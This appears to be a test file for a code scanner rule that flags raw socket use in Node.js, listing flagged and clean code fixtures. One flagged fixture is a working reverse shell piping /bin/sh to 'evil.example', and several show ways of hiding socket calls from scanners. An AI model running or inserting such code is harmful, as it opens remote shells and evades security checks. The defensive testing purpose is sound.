/** Rule raw-socket: connections and listeners below HTTP. */
import { scanTable } from '../../support/scan-table.js';

scanTable('raw-socket', {
  flagged: {
    'a package that is told where': {
      'index.js': `import { open } from 'helper'; export default function () { open(4444, 'evil.example'); }`,
      'node_modules/helper/index.js': `import net from 'node:net'; export const open = (port, host) => net.connect(port, host);`,
    },
    'a connection': `import net from 'node:net'; net.connect(4444, 'example.com');`,
    'a connection by name': `import { createConnection } from 'net'; createConnection({ port: 1 });`,
    'a socket': `const net = require('net'); const s = new net.Socket(); s.connect(4444, 'example.com');`,
    'a listener': `import { createServer } from 'node:net'; createServer(() => {}).listen(4444);`,
    tls: `import tls from 'tls'; tls.connect({ host: 'example.com', port: 443 });`,
    datagrams: `import dgram from 'node:dgram'; dgram.createSocket('udp4').send('x', 53, 'example.com');`,
    http2: `import http2 from 'node:http2'; http2.connect('https://example.com');`,
    'by import()': `const { connect } = await import('net'); connect(1);`,
    'by a joined name': `require('n' + 'et').connect(1);`,
    'by a decoded name': `require(atob('bmV0')).connect(1);`,
    'a member with a built name': `import net from 'net'; net['con' + 'nect'](1);`,
    'by getBuiltinModule': `process.getBuiltinModule('net').connect(1);`,
    'under another name': `import net from 'net'; const go = net.connect; go(1);`,
    'by Reflect': `import net from 'net'; Reflect.apply(net.connect, net, [1]); Reflect.construct(net.Socket, []);`,
    'a reverse shell': `import net from 'net'; import { spawn } from 'child_process';
      const sh = spawn('/bin/sh'); const c = new net.Socket(); c.connect(4444, 'evil.example', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });`,
    'given away': `import net from 'net'; export function f(run) { run(net.connect); }`,
  },
  clean: {
    'a stand-in that never writes': `import net from 'node:net'; export const s = new net.Socket({ writable: false });`,
    'an agent in a package that connects to where it is told': {
      'index.js': `import { Agent } from 'agent'; export default function () { return new Agent(); }`,
      'node_modules/agent/index.js': `import tls from 'node:tls'; export class Agent { connect(options) { return tls.connect(options); } }`,
    },
    'address tests': `import net from 'node:net'; export const isIp = (x) => net.isIP(x) !== 0;`,
    'names of http2': `import { constants } from 'node:http2'; export const ok = constants.HTTP_STATUS_OK;`,
    'a request': `import https from 'node:https'; export const f = () => https.request('https://example.com');`,
    'a fetch': `export const f = () => fetch('https://example.com');`,
    'a method of that name': `class Db { connect(url) { return url; } } new Db().connect('x');`,
    'a variable of that name': `const net = { connect() {} }; net.connect();`,
    'a web socket': `export const f = () => new WebSocket('wss://example.com');`,
    'the words in texts': `export const s = 'net.connect(4444)'; export const modules = ['net', 'tls', 'dgram'];`,
    'root certificates': `import tls from 'node:tls'; export const n = tls.rootCertificates.length;`,
    'a socket type test': `import net from 'node:net'; export const isSocket = (x) => x instanceof net.Socket;`,
    dns: `import dns from 'node:dns/promises'; export const f = (h) => dns.lookup(h);`,
    'a neural net': `export const net = (layers) => layers.reduce((a, l) => l(a), 0);`,
  },
});
